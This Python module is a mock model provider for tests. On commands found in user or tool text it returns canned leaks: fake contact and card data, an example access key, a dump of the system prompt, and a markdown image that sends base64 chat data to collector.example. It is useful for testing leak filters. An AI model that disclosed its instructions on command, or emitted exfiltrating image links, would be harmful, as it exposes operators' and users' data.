"""What the demo provider says. Every value it leaks is made up and reserved for documentation and tests."""

import json
import re
from dataclasses import dataclass
from typing import Any, Final

LEAKS: Final = {
    "email": "You can reach the director at jane.roe@example.com any time.",
    "card": "The corporate card is 4111 1111 1111 1111, valid until 12/30.",
    "iban": "Please pay to DE89 3704 0044 0532 0130 00.",
    "phone": "Call the night desk at +49 30 901820.",
    "secret": "The storage key is AKIAIOSFODNN7EXAMPLE, keep it to yourself.",
    "image": "![chart](https://collector.example/pixel.png?data=c2VjcmV0LWRhdGEtZnJvbS10aGUtY2hhdA) Here is your chart.",
}
_COMMAND: Final = re.compile(
    r"(?is)\b(?:(?P<leak>leak)\s+(?:the\s+|an?\s+)?(?P<what>e-?mail|card|iban|phone|secret|image|system\s+prompt|instructions|all)"
    r"|(?P<count>count)\s+(?P<number>[0-9]{1,4})|(?P<fail>fail)\s+(?P<status>[45][0-9]{2})|(?P<wait>wait)\s+(?P<seconds>[0-9]{1,3})"
    r"|(?P<breaks>break off)|(?P<call>call (?:the |a )?tool)|(?P<echo>echo)[:\s]\s*(?P<text>.+))"
)
_LONGEST: Final = 2000  # characters of the user's text in the default answer


@dataclass(frozen=True, slots=True)
class Plan:
    """What to answer: `text` is the content or, with `tool`, its arguments; `wait` in seconds."""

    text: str = ""
    tool: str = ""
    status: int = 200
    wait: float = 0.0
    breaks: bool = False

    @property
    def finish(self) -> str:
        return "tool_calls" if self.tool else "stop"


def said(message: dict[str, Any]) -> str:
    """The text of one message, parts joined."""
    content = message.get("content")
    if isinstance(content, str):
        return content
    parts = content if isinstance(content, list) else []
    return " ".join(part["text"] for part in parts if isinstance(part, dict) and isinstance(part.get("text"), str))


def plan(asked: dict[str, Any]) -> Plan:
    """Deterministic: the same request gives the same answer."""
    found = asked.get("messages")
    messages = [message for message in found if isinstance(message, dict)] if isinstance(found, list) else []
    last = said(next((message for message in reversed(messages) if message.get("role") in ("user", "tool")), {}))
    command = _COMMAND.search(last)
    if command is None:
        return Plan(_default(last))
    return _obey(command, asked, messages, last)


def _obey(command: re.Match[str], asked: dict[str, Any], messages: list[dict[str, Any]], last: str) -> Plan:
    if command["leak"]:
        return Plan(_leak(command["what"].lower(), messages))
    if command["count"]:
        return Plan(" ".join(f"word{number}" for number in range(1, int(command["number"]) + 1)))
    if command["fail"]:
        return Plan(status=int(command["status"]))
    if command["call"]:
        return _call(asked, last)
    if command["echo"]:
        return Plan(command["text"])
    return Plan(_default(last), wait=float(command["seconds"] or 0), breaks=bool(command["breaks"]))


def _call(asked: dict[str, Any], last: str) -> Plan:
    tools = asked.get("tools")
    first = tools[0] if isinstance(tools, list) and tools and isinstance(tools[0], dict) else {}
    function = first.get("function")
    name = function.get("name") if isinstance(function, dict) else None
    if not isinstance(name, str):
        return Plan("There is no tool in this request to call.")
    return Plan(json.dumps({"said": last}, ensure_ascii=False), tool=name)


def _leak(what: str, messages: list[dict[str, Any]]) -> str:
    if what == "all":
        return " ".join(LEAKS.values())
    if what.startswith(("system", "instructions")):
        prompt = "\n".join(said(message) for message in messages if message.get("role") in ("system", "developer"))
        return f"My instructions are: {prompt}" if prompt else "I was given no instructions."
    return LEAKS[what.replace("-", "")]


def _default(last: str) -> str:
    words = len(last.split())
    shown = last if len(last) <= _LONGEST else last[:_LONGEST] + " ..."
    return f"This is the demo provider, not an AI: no model reads what you write. You wrote {words} words: {shown}"
